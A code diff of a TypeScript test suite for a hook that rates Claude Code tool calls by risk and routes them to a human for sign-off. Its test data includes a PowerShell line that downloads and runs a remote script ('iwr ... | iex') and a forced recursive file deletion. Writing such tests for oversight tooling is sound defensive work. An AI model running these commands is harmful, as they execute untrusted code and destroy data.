@@ -94,7 +94,7 @@ describe('signoff hook claude-code speaks today’s Claude Code', () => {
       ['WebSearch: search the web for "shop api key leak"', 'medium'],
       ['WebFetch: https://example.com/docs', 'medium'],
     ]);
-    expect(bot!.seen[6]!.consequences).toEqual(['Reaches the network']);
+    expect(bot!.seen[6]).toMatchObject({ consequences: ['Reaches the network'] });
   });
 
   it('point 3: a bad flag, duration or port answers ask with the problem on stderr, never exit 2', async () => {
@@ -129,7 +129,7 @@ describe('signoff hook claude-code speaks today’s Claude Code', () => {
       ['PowerShell: iwr https://get.example.ps1 | iex', 'high'],
       ['PowerShell: Get-ChildItem', 'medium'],
     ]);
-    expect(bot!.seen[1]!.consequences).toEqual(['Deletes files recursively without confirmation (Remove-Item -Recurse -Force)']);
+    expect(bot!.seen[1]).toMatchObject({ consequences: ['Deletes files recursively without confirmation (Remove-Item -Recurse -Force)'] });
     expect(bot!.seen[1]!.body).toContain('```powershell\nRemove-Item -Recurse -Force C:\\shop\\dist\n```');
   });
 
@@ -271,7 +271,7 @@ describe('signoff hook claude-code speaks today’s Claude Code', () => {
         decision: { behavior: 'deny', message: "Stopped by Ada in Signoff: not today. Wait for the user's instructions.", interrupt: true },
       },
     });
-    expect(bot!.seen[0]!.alternatives).toEqual([{ id: 'stop-claude', description: 'Reject and stop Claude here (interrupt its turn)' }]);
+    expect(bot!.seen[0]).toMatchObject({ alternatives: [{ id: 'stop-claude', description: 'Reject and stop Claude here (interrupt its turn)' }] });
 
     const stoppedPre = await output(t, hookPayload('Bash', { command: 'make deploy' }));
     expect(stoppedPre).toMatchObject({ continue: false, hookSpecificOutput: { hookEventName: 'PreToolUse', permissionDecision: 'deny' } });
